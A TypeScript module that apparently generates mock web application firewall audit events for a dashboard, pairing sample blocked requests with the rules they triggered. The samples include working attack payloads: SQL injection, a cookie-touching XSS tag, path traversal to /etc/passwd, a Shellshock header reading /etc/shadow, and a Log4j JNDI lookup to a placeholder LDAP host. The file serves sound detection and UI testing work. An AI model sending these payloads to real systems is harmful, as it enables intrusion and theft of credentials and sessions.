import type { AuditEvent, Decision, MatchedRule } from '@/api/events';
import { seeded } from './random';

interface Attack {
  method: string;
  uri: string;
  body?: string;
  reason: string;
  detail?: string;
  status?: number;
  rules: Partial<MatchedRule>[];
}

const score: Partial<MatchedRule> = {
  id: 949110,
  phase: 2,
  msg: 'Inbound anomaly score exceeded',
  severity: 'CRITICAL',
  variable: 'TX:BLOCKING_INBOUND_ANOMALY_SCORE',
  value: '5',
  transformations: ['none'],
  match: { offset: 0, length: 1 },
  tags: [],
  file: 'rules/949-blocking.conf',
  line: 181,
};

const kAttacks: Attack[] = [
  {
    method: 'GET',
    uri: "/search?q=shoes&id=1%27%20OR%20%271%27=%271",
    reason: 'waf',
    rules: [
      {
        id: 942100, phase: 2, msg: 'SQL injection found by the tokeniser', data: 'fingerprint s&sos in ARGS:id', severity: 'CRITICAL', tags: ['attack-sqli', 'paranoia-level/1', 'capec/1000/152/248/66'],
        variable: 'ARGS:id', value: "1' OR '1'='1", transformations: ['none', 'utf8toUnicode', 'urlDecodeUni', 'removeNulls'], match: { offset: 0, length: 12 }, file: 'rules/942-sqli.conf', line: 46,
      },
      score,
    ],
  },
  {
    method: 'POST',
    uri: '/comments',
    body: 'author=x&text=%3Cimg+src%3Dx+onerror%3Dalert(document.cookie)%3E',
    reason: 'waf',
    rules: [
      {
        id: 941110, phase: 2, msg: 'Cross-site scripting: event handler in markup', data: 'matched onerror= in ARGS:text', severity: 'CRITICAL', tags: ['attack-xss', 'paranoia-level/1'],
        variable: 'ARGS:text', value: 'nice post <img src=x onerror=alert(document.cookie)> thanks', transformations: ['utf8toUnicode', 'urlDecodeUni', 'htmlEntityDecode', 'jsDecode'], match: { offset: 21, length: 8 }, file: 'rules/941-xss.conf', line: 88,
      },
      {
        id: 941160, phase: 2, msg: 'HTML injection', data: '', severity: 'CRITICAL', tags: ['attack-xss'],
        variable: 'ARGS:text', value: 'nice post <img src=x onerror=alert(document.cookie)> thanks', transformations: ['urlDecodeUni', 'htmlEntityDecode'], match: { offset: 10, length: 4 }, file: 'rules/941-xss.conf', line: 152,
      },
      score,
    ],
  },
  {
    method: 'GET',
    uri: '/static/..%2f..%2f..%2f..%2fetc%2fpasswd',
    reason: 'waf',
    rules: [
      { id: 930110, phase: 2, msg: 'Path traversal (/../)', severity: 'CRITICAL', tags: ['attack-lfi'], variable: 'REQUEST_URI_RAW', value: '/static/../../../../etc/passwd', transformations: ['none', 'utf8toUnicode', 'urlDecodeUni', 'removeNulls', 'cmdLine'], match: { offset: 7, length: 4 }, file: 'rules/930-lfi.conf', line: 61 },
      { id: 930120, phase: 2, msg: 'Access to a system file', severity: 'CRITICAL', tags: ['attack-lfi'], variable: 'REQUEST_FILENAME', value: '/static/../../../../etc/passwd', transformations: ['urlDecodeUni', 'normalizePathWin'], match: { offset: 20, length: 10 }, file: 'rules/930-lfi.conf', line: 90 },
      score,
    ],
  },
  {
    method: 'GET',
    uri: '/cgi-bin/status',
    reason: 'waf',
    rules: [
      { id: 932160, phase: 2, msg: 'Unix shell command', severity: 'CRITICAL', tags: ['attack-rce'], variable: 'REQUEST_HEADERS:User-Agent', value: '() { :;}; /bin/bash -c "cat /etc/shadow"', transformations: ['urlDecodeUni', 'cmdLine', 'normalizePath'], match: { offset: 10, length: 9 }, file: 'rules/932-rce.conf', line: 203 },
      score,
    ],
  },
  { method: 'GET', uri: '/wp-login.php', reason: 'waf', rules: [{ id: 913100, phase: 1, msg: 'User agent of a security scanner', severity: 'CRITICAL', tags: ['attack-reputation-scanner'], variable: 'REQUEST_HEADERS:User-Agent', value: 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', transformations: ['lowercase'], match: { offset: 25, length: 4 }, file: 'rules/913-scanner.conf', line: 34 }, score] },
  { method: 'POST', uri: '/api/v2/orders', body: '{"note":"${jndi:ldap://198.51.100.7/a}"}', reason: 'waf', rules: [{ id: 944150, phase: 2, msg: 'Java injection through a lookup (Log4j)', severity: 'CRITICAL', tags: ['attack-injection-java'], variable: 'ARGS:json.note', value: '${jndi:ldap://198.51.100.7/a}', transformations: ['urlDecodeUni', 'jsDecode', 'htmlEntityDecode'], match: { offset: 0, length: 7 }, file: 'rules/944-java.conf', line: 120 }, score] },
  { method: 'GET', uri: '/login', reason: 'rate', status: 429, detail: '131 requests in 1 s, 100 are allowed', rules: [] },
  { method: 'GET', uri: '/', reason: 'access', detail: '198.51.100.23 is on the deny list (198.51.100.0/24)', rules: [] },
  { method: 'POST', uri: '/upload', reason: 'protocol', status: 400, detail: 'content-length and transfer-encoding together', rules: [] },
];

const kAgents = [
  'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0',
  'python-requests/2.32.3',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/138.0 Safari/537.36',
  'curl/8.5.0',
];
const kClients = ['203.0.113.58', '198.51.100.23', '203.0.113.58', '192.0.2.14', '2001:db8:41::9f2', '203.0.113.199'];
const kSites: [string, string][] = [['shop', 'shop.example'], ['shop', 'shop.example'], ['api', 'api.shop.example'], ['blog', 'blog.example'], ['partners', 'partners.example']];

export function makeEvents(count: number): AuditEvent[] {
  const random = seeded(7);
  const pick = <T>(items: T[]): T => items[Math.floor(random() * items.length)] as T;
  let time = Date.now() - 12_000;
  return Array.from({ length: count }, (_, index) => {
    const attack = pick(kAttacks);
    const [site, host] = pick(kSites);
    const decision: Decision = site === 'partners' && attack.reason === 'waf' ? 'detected' : 'blocked';
    const client = attack.reason === 'access' ? '198.51.100.23' : pick(kClients);
    time -= Math.floor(random() ** 2 * 500_000);
    const rules = attack.rules.map((rule) => ({ data: '', tags: [], ...rule }) as MatchedRule);
    return {
      id: `01k3${(0xf4a2c1 - index * 7).toString(16)}${Math.floor(random() * 0xffffff).toString(16).padStart(6, '0')}`,
      time: new Date(time).toISOString(),
      site,
      client: { ip: client, port: 32768 + Math.floor(random() * 28000) },
      request: {
        method: attack.method,
        uri: attack.uri,
        protocol: 'HTTP/1.1',
        headers: [
          ['Host', host],
          ['User-Agent', pick(kAgents)],
          ['Accept', 'text/html,application/xhtml+xml,*/*;q=0.8'],
          ['Accept-Language', 'en-GB,en;q=0.7'],
          ...(attack.body ? ([['Content-Type', 'application/x-www-form-urlencoded'], ['Content-Length', String(attack.body.length)]] as [string, string][]) : []),
        ],
        body_excerpt: attack.body,
      },
      response: { status: decision === 'blocked' ? (attack.status ?? 403) : 200 },
      decision,
      reason: attack.reason,
      detail: attack.detail,
      rules,
      scores: { inbound: attack.reason === 'waf' ? 5 * Math.max(1, rules.length - 1) : 0, outbound: 0 },
      upstream: decision === 'blocked' ? '' : '10.20.0.41:8080',
      tls: { version: 'TLSv1.3', sni: host },
      durations_us: { waf: 180 + Math.floor(random() * 400), total: 700 + Math.floor(random() * 900) },
    };
  });
}
